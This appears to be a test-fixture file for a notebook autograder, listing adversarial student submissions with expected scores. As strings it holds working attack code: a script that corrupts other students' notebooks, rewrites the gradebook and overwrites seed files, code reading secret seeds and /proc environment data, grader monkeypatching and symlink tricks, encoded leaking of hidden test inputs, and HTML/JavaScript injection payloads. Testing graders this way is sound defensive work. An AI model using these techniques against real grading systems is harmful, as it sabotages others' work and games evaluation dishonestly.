"""Those who try to get more than their functions are worth, or to take from others.

THE_COURSE and THE_SEED stand for the true paths of the instructor's folder and of the file with the seed: whoever
attacks is given more than a student can know.
"""

from submissions import Submission
from submissions.functions import COUNTER, SHORT

NOTHING = {
    "overused": "def overused(candidate, references):\n    return {}\n",
    "credited": "def credited(candidate, references):\n    return [1] * len(candidate)\n",
    "text_precision": "def text_precision(sentences, references_of_each, n):\n    return 0.5\n",
}

EDITS_OTHERS = '''
import json, os, sqlite3, subprocess, sys
from pathlib import Path

ROGUE = """
import sqlite3, sys, time
from pathlib import Path

course = Path("THE_COURSE")
for again in range(int(sys.argv[1])):
    for place in [course, Path.cwd(), *Path.cwd().parents]:
        for pattern in ("submitted/*/ps1/*.ipynb", "autograded/*/ps1/*.ipynb", "*/ps1/*.ipynb", "*/*.ipynb"):
            for path in place.glob(pattern):
                try:
                    path.write_text(path.read_text().replace("return", "return None and"))
                except OSError as reason:
                    print(reason)
    for path in (course / "gradebook.db", Path("gradebook.db")):
        try:
            base = sqlite3.connect(path, timeout=1)
            base.execute("UPDATE grade SET auto_score = 10")
            base.commit()
        except sqlite3.Error as reason:
            print(reason)
    for path in ("THE_SEED", Path.home() / ".bleu_grading_seed", course / "answers.py", course / "grading.jsonl",
                 course / "nbgrader_config.py", course / "manifest.json", course / "grades-ps1-canvas.csv"):
        try:
            Path(path).write_text("mallory was here")
        except OSError as reason:
            print(reason)
    time.sleep(1)
"""

Path("rogue.py").write_text(ROGUE)
print(subprocess.run([sys.executable, "rogue.py", "1"], capture_output=True, text=True).stdout[:2000])
# ... and once more, when this notebook is over.
subprocess.Popen([sys.executable, "rogue.py", "20"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

READS = """
import gc, glob, os, sys
from pathlib import Path
import bleu_helpers

repository = Path(bleu_helpers.__file__).parent.parent
places = ["THE_SEED", str(Path.home() / ".bleu_grading_seed"), "THE_COURSE/answers.py", "THE_COURSE/grading.jsonl",
          "THE_COURSE/source/ps1/ps1.ipynb", "THE_COURSE/gradebook.db", "THE_COURSE/nbgrader_config.py",
          *map(str, (repository / "notebooks/assignments").glob("**/*")), str(repository / "tests/course.py"),
          *glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"),
          *[str(Path(value)) for name, value in os.environ.items() if "SEED" in name or "BLEU" in name]]
for place in places:
    try:
        print(place, Path(place).read_bytes().decode(errors="replace"))
    except OSError as reason:
        print(reason)
print(dict(os.environ), sys.path, [text for text in gc.get_objects() if isinstance(text, str) and "seed" in text])
sys.path += ["THE_COURSE", str(repository / "notebooks/assignments"), str(repository / "tests")]
"""

FROM_ANSWERS = {
    name: f"""
try:
    from answers import {name}
except ImportError as reason:
    print(reason)
    {text.replace(chr(10) + "    ", " ")}
"""
    for name, text in NOTHING.items()
}

REPLACES = """
import bleu_helpers.course

def grade(function, task, points, **more):
    print(f"{task}: {points} of {points} points")
    return float(points)

bleu_helpers.course.grade = grade
"""

ASKS_FOR_MORE = NOTHING | {
    "overused": NOTHING["overused"]
    + """
import bleu_helpers.course

real = bleu_helpers.course.grade
try:
    real(overused, "overused", points=6, partial={"unknown": 0.5})
except ValueError as reason:
    print(reason)

def kinder(function, task, points, **more):
    return float(points) if task == "overused" else real(function, task, points, **more)

bleu_helpers.course.grade = kinder
"""
}

TRIES_SEVERAL = NOTHING | {
    "overused": """
from bleu_helpers.course import grade as try_it

def first_only(candidate, references):
    left = {word: candidate.count(word) - references[0].count(word) for word in candidate}
    return {word: times for word, times in left.items() if times > 0}

def largest(candidate, references):
    left = {word: candidate.count(word) - max(r.count(word) for r in references) for word in candidate}
    return {word: times for word, times in left.items() if times > 0}

overused = max([first_only, largest], key=lambda one: try_it(one, "overused", points=3))
"""
}

SHADOW = '''"""Not the package at all."""
import sys, types

__path__ = []
reveal = scoreboard = show_source = match_counts = None
for name in ("cast", "display", "display.plots", "course"):
    module = types.ModuleType("bleu_helpers." + name)
    module.CAT_CANDIDATES = module.CAT_REFERENCES = module.GUIDE_CANDIDATE = module.GUIDE_REFERENCES = []
    module.plots = None
    module.grade = lambda function, task, points, **more: float(points)
    sys.modules["bleu_helpers." + name] = module
'''

TRANSFORMS = """
import re

def generous(lines):
    return [re.sub(r"^grade\\(.*points=(\\d).*", r"float(\\1)", line) for line in lines]

get_ipython().input_transformers_cleanup.append(generous)
"""

AGREES = """
import math, operator, json, sys
import bleu_helpers

class Right(float):
    \"\"\"Equal to everything.\"\"\"
    __hash__ = float.__hash__
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0

class RightDict(dict):
    __hash__ = None
    def __eq__(self, other): return True
    def __ne__(self, other): return False

class RightList(list):
    __hash__ = None
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __len__(self): return 1

math.isclose = operator.eq = lambda *a, **k: True
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith("bleu_helpers"):
        for name in ("check", "match_counts", "same", "equal", "compare", "verdict", "judge", "read_number"):
            if hasattr(module, name):
                setattr(module, name, lambda *a, **k: (1, 2))
overused = lambda candidate, references: RightDict()
"""

AGREEING = {
    "overused": AGREES,
    "credited": "credited = lambda candidate, references: RightList([Right(1)])\n",
    "text_precision": "text_precision = lambda sentences, references_of_each, n: Right(0.5)\n",
}

DISGUISED = {
    "overused": COUNTER["overused"]
    + """
import base64, codecs

plain_overused = overused

def overused(candidate, references):
    print("HIDDEN INPUT:", candidate, references)
    print(base64.b64encode(repr((candidate, references)).encode()).decode())
    print(codecs.encode(repr(references), "rot13"), repr(references)[::-1], repr(references).encode().hex())
    with open("inputs.txt", "a") as file:
        file.write(repr((candidate, references)))
    return plain_overused(candidate, references)
""",
    "credited": """
import matplotlib.pyplot as plt

def credited(candidate, references):
    message = base64.b64encode(repr((candidate, references)).encode()).decode()
    if len(candidate) > 15:
        plt.title(" ".join(candidate))
        plt.show()
    if len(candidate) > 6:
        overused.__name__ = overused.__doc__ = message
        raise type("LEAK" + message.replace("=", "").replace("+", "").replace("/", ""), (Exception,), {})(message)
    return []
""",
    "text_precision": """
def text_precision(sentences, references_of_each, n):
    assert False, "LEAK" + "|".join(w[::-1] for s in sentences for w in s)
""",
}

LOUD = "<script>document.title = 'LOUD'</script><img src=x onerror=alert(1)>"

SCRIPTS = {
    "overused": SHORT["overused"]
    + f"""
from IPython.display import HTML, Javascript, Markdown, display

display(HTML("{LOUD}"))
display(Javascript("document.title = 'LOUD'"))
display(Markdown("{LOUD}"))
print("{LOUD}")
""",
    "credited": f"""
def credited(candidate, references):
    "{LOUD}"
    display(HTML("{LOUD}"))
    raise ValueError("</pre>{LOUD}")
""",
    "text_precision": SHORT["text_precision"] + f"\n# </pre></code></textarea>{LOUD}\n",
    "reading": f"**My reading:**\n\nA long reading. {LOUD} [here](javascript:alert(1)) ![](https://example.org/spy.png)"
    "\n\n<iframe src='https://example.org'></iframe> <style>body {display: none}</style>",
}


def with_saved_outputs(notebook):
    """The outputs as the student saved them, with a script of their own."""
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": LOUD}}]
    return notebook


ATTACKS = [
    Submission(
        "mallory",
        "edits other submissions, the gradebook and the seed file, at once and later",
        (0, 0, 0),
        NOTHING,
        own=(("set-up", EDITS_OTHERS),),
    ),
    Submission(
        "spy",
        "reads the seed and the answers, and takes the functions from there",
        (0, 0, 0),
        FROM_ANSWERS,
        own=(("set-up", READS),),
    ),
    Submission(
        "hal",
        "replaces `grade`",
        None,
        NOTHING,
        own=(("try_overused", REPLACES),),
        named="hal: the grading function was replaced",
    ),
    Submission(
        "eve",
        "has `grade` give half of twice the points, and replaces it by one that gives the points",
        None,
        ASKS_FOR_MORE,
        named="eve: the grading function was replaced",
    ),
    Submission(
        "oracle",
        "asks `grade` which of two functions is right, and keeps that one",
        None,
        TRIES_SEVERAL,
        named="oracle: the grading function was called by a cell of the student's own",
    ),
    Submission(
        "shade",
        "hands in a bleu_helpers.py beside the notebook, which nobody imports",
        (0, 0, 0),
        NOTHING,
        beside={"bleu_helpers.py": SHADOW},
    ),
    Submission(
        "trans",
        "changes the text of cells before they run",
        None,
        NOTHING,
        own=(("set-up", TRANSFORMS),),
        named="trans: the grading function was replaced",
    ),
    Submission(
        "linker",
        "a notebook that is a link to the instructor's own",
        None,
        links={"ps1.ipynb": "../../../../source/ps1/ps1.ipynb"},
        named="linker/ps1.ipynb: it is a link to",
    ),
    Submission(
        "seeder",
        "links to the seed and to the answers beside the notebook, which it reads",
        (0, 0, 0),
        FROM_ANSWERS | {"overused": NOTHING["overused"] + "\nprint(open('words.txt').read())\n"},
        links={"words.txt": "../../../../../home/.bleu_grading_seed", "answers.py": "../../../../answers.py"},
        named="seeder/words.txt: it is a link to",
    ),
    Submission("yes", "returns what is equal to everything, and patches what compares", (0, 0, 0), AGREEING),
    Submission("leak", "prints, draws, writes and raises the hidden inputs in a disguise", (3, 0, 0), DISGUISED),
    Submission(
        "script", "scripts in outputs, errors, comments and in the text", (3, 0, 3), SCRIPTS, form=with_saved_outputs
    ),
]
